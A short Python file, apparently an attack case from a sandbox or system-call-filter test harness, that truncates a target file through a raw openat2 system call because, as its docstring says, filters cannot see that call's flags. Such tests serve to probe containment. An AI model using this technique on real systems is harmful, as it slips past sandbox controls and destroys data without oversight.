"""Empties a file with the newer call, whose flags no system call filter can see."""

# judge: changed

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def attack(ground):
    how = struct.pack("QQQ", os.O_RDONLY | os.O_TRUNC, 0, 0)
    if libc.syscall(437, ctypes.c_long(-100), ground["file"].encode(), how, ctypes.c_long(len(how))) < 0:
        raise OSError(ctypes.get_errno(), "openat2")
